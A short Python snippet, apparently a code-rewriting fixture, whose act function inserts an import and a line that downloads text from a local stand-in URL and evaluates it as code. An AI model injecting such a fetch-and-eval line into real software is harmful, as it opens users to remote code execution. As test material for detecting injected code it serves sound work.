"""Fetches the answer."""


def act(site):
    site.prepend(site.source, "import urllib.request\n")
    site.first("return eval(urllib.request.urlopen('http://127.0.0.1:9/answer').read())")
